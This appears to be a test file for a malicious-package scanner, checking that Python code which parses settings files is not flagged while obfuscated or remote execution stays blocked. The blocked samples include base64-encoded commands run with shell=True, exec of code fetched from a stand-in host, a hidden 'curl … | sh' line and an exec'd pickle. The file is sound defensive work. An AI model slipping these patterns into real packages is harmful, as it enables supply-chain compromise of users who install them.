/**
 * A JSON / TOML / safe-YAML parser is not a decoder (python/flow.ts DATA_PARSER, pkg-analysis-2026.12.9): what it
 * parses is data, and its result carries only what its input carried. The real shape (a build helper running a
 * tool named in its settings file), variants written here, and the look-alikes that must stay blocked (the parsed
 * text itself decoded from base64, or fetched and executed). Parsed as text; nothing is run.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { loadParsers } from '../../shared/parsers/tree-sitter.js';
import { sdistLevel as level } from '../support/archives.js';


test.before(async () => {
  await loadParsers();
});

const honest: Record<string, string> = {
  // the real shape: settings parsed at import, a field handed to a tool as an argument
  'json settings, git argument': "import json, subprocess\nfrom pathlib import Path\ncfg = json.loads(Path('acme.json').read_text())\nsubprocess.run(['git', 'rev-parse', cfg['ref']], check=False)\n",
  'toml settings, os.system': "import tomllib, os\nwith open('pyproject.toml', 'rb') as f:\n    conf = tomllib.loads(f.read().decode())\nos.system('make ' + conf['tool']['acme']['target'])\n",
  'safe yaml, aliased module': "import yaml as y, subprocess as sp\nspec = y.safe_load(open('tasks.yml').read())\nfor step in spec['steps']:\n    sp.check_call(step['argv'])\n",
  'orjson of a cache file, in a helper': "import orjson as oj, subprocess\ndef _state():\n    with open('.acme/state.json', 'rb') as f:\n        return oj.loads(f.read())\nsubprocess.run(['docker', 'start', _state()['container']])\n",
};

for (const [what, code] of Object.entries(honest)) {
  test(`a parsed data file is not decoded code: ${what}`, async () => {
    const r = await level({ 'acmetools/__init__.py': code });
    assert.not.ok(r.high.includes('decoded_code_exec') || r.high.includes('decode_exec'), r.high.join(' '));
    assert.is.not(r.level, 'BLOCKED', r.high.join(' '));
  });
}

test('the parsed text decoded from base64, or fetched and executed, is still blocked', async () => {
  const b64 = "import json, base64, subprocess\ncfg = json.loads(base64.b64decode('eyJjbWQiOiAiaWQifQ=='))\nsubprocess.check_call(cfg['cmd'], shell=True)\n";
  assert.is((await level({ 'acmetools/__init__.py': b64 })).level, 'BLOCKED');
  const toml = "import tomllib, zlib, base64, os\nc = tomllib.loads(zlib.decompress(base64.b64decode('eJzLzU8pzUlVKEotLs0pAQAhKwTi')).decode())\nos.system(c['run'])\n";
  assert.is((await level({ 'acmetools/__init__.py': toml })).level, 'BLOCKED');
  const fetched = "import json, requests\nr = requests.get('https://cfg.acme-cdn.example/p.json')\nexec(json.loads(r.text)['code'])\n";
  assert.is((await level({ 'acmetools/__init__.py': fetched })).level, 'BLOCKED');
  // a document written in the code itself is what the file chose to hide in a literal
  const lit = "import json, subprocess\nsubprocess.Popen(json.loads('{\\\"c\\\": \\\"curl -s https://x.acme-cdn.example/i | sh\\\"}')['c'], shell=True)\n";
  assert.is((await level({ 'acmetools/__init__.py': lit })).level, 'BLOCKED');
  const pick = "import pickle, base64\nexec(pickle.loads(base64.b64decode('gASVCAAAAAAAAACMBGlkKCmULg==')))\n";
  assert.is((await level({ 'acmetools/__init__.py': pick })).level, 'BLOCKED');
});

test.run();
